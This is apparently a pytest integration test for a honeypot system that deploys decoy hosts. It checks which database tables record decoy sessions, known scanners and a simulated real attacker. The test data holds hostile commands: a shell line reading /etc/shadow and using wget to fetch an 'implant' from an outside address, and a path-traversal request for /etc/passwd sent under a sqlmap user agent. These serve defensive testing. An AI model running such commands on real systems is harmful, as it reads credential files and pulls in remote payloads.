# SPDX-License-Identifier: MIT
"""What the orchestrator causes, and what known sources do, is in the event log and nowhere else.

A real attacker beside them is everywhere. One fleet, in which deckies that a command deploys are visited, too.
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
import sqlite3
import sys
import time
from collections.abc import AsyncIterator
from typing import Any
from uuid import uuid4

import asyncssh
import pytest
import pytest_asyncio
from tests.fleet.arena import DEFAULTS, PASSWORD, SOURCE, Arena
from tests.forked_program import decnet

from decnet.drill.private import HTTP_PORT, SSH_PORT
from decnet_core import footprint
from decnet_core.deckies.handover import HandoverClient, handover_sockets
from decnet_core.runtime import worker_registry
from decnet_core.state import State
from decnet_models.database.engine import open_engine, reading, writing
from decnet_models.realism import queries
from decnet_models.realism.queries import Action

pytestmark = pytest.mark.asyncio(loop_scope="module")

PEER = "127.66.9.9"
"""Where the synthetic sessions come from."""
SCANNER = "127.66.8.8"
"""A source that the operator has said is his own."""
ATTACK = "cat /etc/shadow; wget http://192.0.2.9/implant"
KNOWS_SOURCES = {"attacker", "attacker_session", "credential_use", "ttp_tag", "notice"}
"""Tables in which an attacker who logs in and does ATTACK leaves rows, beside the event log."""

WEB = {"user_agent": "curl/7.88.1", "pages": 2, "pauses": [0.0, 0.0], "choices": [0.0, 0.5]}
SHELL = {"user": "deploy", "lines": ["id", "cat /etc/shadow", "uptime"], "pauses": [0.0, 0.1, 0.1]}
NAMES = ("shop-01", "shop-02")
MOST_UNIQUE = (16 if sys.version_info >= (3, 12) else 24) << 20
"""Bytes of memory that the orchestrator has for itself while it is awake, with room: it is forked before its zygote
is prepared, as whoever is woken, and replaced by one that takes half of that only when it stays busy. Older Pythons
count references to what they share (PEP 683), and so have copies of it."""


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def arena(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Arena]:
    life = {"DECNET_ORCHESTRATOR_ENABLED": "true", "DECNET_SUPERVISE_SHARE_MEMORY": "true"}
    found = Arena(tmp_path_factory.mktemp("arena"), besides=life)
    async with found.running():
        yield found


async def command(arena: Arena, *arguments: str) -> None:
    done = await asyncio.to_thread(decnet, arena.environment, *arguments)
    assert done.returncode == 0, done.stderr


async def connected(arena: Arena, source: str, port: int, session: str | None) -> socket.socket:
    """Return a connection to web-01, announced unless it has no session."""
    sock = socket.socket()
    sock.bind((source, 0))
    sock.setblocking(False)
    if session is not None:
        await asyncio.to_thread(announce, arena, sock, session)
    await asyncio.get_running_loop().sock_connect(sock, (f"127.77.{arena.block}.10", port))
    return sock


def announce(arena: Arena, sock: socket.socket, session: str) -> None:
    with HandoverClient(handover_sockets(State(arena.state))[0]) as client:
        client.expect("web-01", sock.getsockname(), session)


async def browse(arena: Arena, source: str, session: str | None) -> None:
    sock = await connected(arena, source, HTTP_PORT, session)
    reader, writer = await asyncio.open_connection(sock=sock)
    with contextlib.closing(writer):
        writer.write(
            b"GET /../../etc/passwd HTTP/1.1\r\nHost: x\r\nUser-Agent: sqlmap/1.8\r\nConnection: close\r\n\r\n"
        )
        assert (await reader.read()).startswith(b"HTTP/1.1 ")


async def intrude(arena: Arena, source: str, session: str | None) -> None:
    sock = await connected(arena, source, SSH_PORT, session)
    async with asyncssh.connect(sock=sock, username="root", password=PASSWORD, known_hosts=None, config=None) as client:
        await client.run(ATTACK, check=False)


def mentioning(arena: Arena, address: str) -> set[str]:
    """Return the tables in which the address is anywhere."""
    with contextlib.closing(sqlite3.connect(f"file:{arena.state / 'decnet.db'}?mode=ro", uri=True)) as connection:
        tables = [row[0] for row in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        return {
            table
            for table in tables
            if any(
                address in map(str, row) or any(address in str(cell) for cell in row)
                for row in connection.execute(f"SELECT * FROM {table}")
            )
        }


def cursors_behind(arena: Arena) -> int:
    """Return how many events the slowest of the workers that follow the log has still to handle."""
    with contextlib.closing(sqlite3.connect(f"file:{arena.state / 'decnet.db'}?mode=ro", uri=True)) as connection:
        last = connection.execute("SELECT max(seq) FROM event").fetchone()[0] or 0
        return int(
            last
            - (
                connection.execute(
                    "SELECT min(seq) FROM worker_cursor WHERE worker IN ('profiler', 'ttp', 'clusterer')"
                ).fetchone()[0]
                or 0
            )
        )


async def deployed(arena: Arena) -> None:
    for index, name in enumerate(NAMES):
        address = f"127.77.{arena.block}.{50 + index}"
        services = [word for each in ("http=18080", "ssh=12222") for word in ("--service", each)]
        add = ("decky", "add", name, "--persona", "debian-web", "--runtime", "loopback", "--address", address)
        await command(arena, *add, *services)


def planned(arena: Arena) -> list[Action]:
    """Plan sessions that are due now, as they come in working hours."""
    bodies: list[tuple[str, dict[str, Any]]] = [("http", WEB), ("ssh", SHELL)]
    actions = [
        Action(uuid4(), "session", here, there, "debian-web", protocol, None, body, time.time_ns())
        for protocol, body in bodies
        for here, there in (NAMES, NAMES[::-1])
    ]
    engine = open_engine(arena.database)
    with writing(engine) as connection:
        queries.plan(connection, actions)
    engine.dispose()
    return actions


async def until_ended(arena: Arena, actions: list[Action]) -> list[Action]:
    engine = open_engine(arena.database, read_only=True)
    wanted = {action.id for action in actions}
    async with asyncio.timeout(100):
        while True:
            with reading(engine) as connection:
                found = [
                    one for name in NAMES for one in queries.actions_on(connection, name, 1000) if one.id in wanted
                ]
            if len(found) == len(actions) and all(one.ended_at for one in found):
                engine.dispose()
                return found
            await asyncio.sleep(0.2)


async def carried_out(arena: Arena) -> list[Action]:
    """Return sessions that nothing disturbed: a process of decoys that gives its place to another cuts off what began.

    It does so once it has made keys, at its next heartbeat, if nobody is there in that moment.
    """
    while True:
        before = replacements(arena)
        done = await until_ended(arena, planned(arena))
        if replacements(arena) == before:
            return done


def replacements(arena: Arena) -> int:
    return (arena.root / "supervise.log").read_text().count("decoys: replacing")


async def test_deployed_deckies_are_visited_and_no_attacker_comes_of_it(arena: Arena) -> None:
    await deployed(arena)
    done = await carried_out(arena)
    assert [(action.state, action.error) for action in done] == [("done", None)] * 4
    pid = arena.pid_of("orchestrator")
    assert pid is not None
    measured = footprint.measure(pid)
    assert measured is not None
    assert measured.uss <= MOST_UNIQUE
    for index, _ in enumerate(NAMES):
        address = f"127.77.{arena.block}.{50 + index}"
        async with asyncio.timeout(120):
            while "event" not in mentioning(arena, address):
                await asyncio.sleep(0.1)
        assert mentioning(arena, address) & {"attacker", "attacker_session", "ttp_tag", "notice"} == set()


async def test_synthetic_sessions_and_known_sources_reach_no_table_but_the_log_and_no_webhook(arena: Arena) -> None:
    assert {"profiler", "ttp", "webhook", "ingest"} <= set(worker_registry.wanted(DEFAULTS))
    await command(arena, "known", "add", "127.66.8.0/24", "--label", "scanner")
    for visit in (browse, intrude):
        for source, session in ((PEER, f"life-{visit.__name__}"), (SCANNER, None), (SOURCE, None)):
            before = replacements(arena)
            try:
                await visit(arena, source, session)
            except (OSError, AssertionError, asyncssh.Error):
                assert replacements(arena) > before
                await visit(arena, source, session)
    async with asyncio.timeout(110):
        while not {"ttp.tagged", "attacker.observed"} <= {each.kind for each in arena.receiver.arrivals}:
            arena.receiver.arrived.clear()
            await arena.receiver.arrived.wait()
        while not (mentioning(arena, PEER) and mentioning(arena, SCANNER)) or cursors_behind(arena):
            await asyncio.sleep(0.05)
    assert mentioning(arena, SOURCE) >= KNOWS_SOURCES
    assert mentioning(arena, PEER) == {"event"}
    assert mentioning(arena, SCANNER) == {"event", "artifact_sighting"}  # its session is recorded, too
    assert not any({PEER, SCANNER} & set(map(str, each.data.values())) for each in arena.receiver.arrivals)
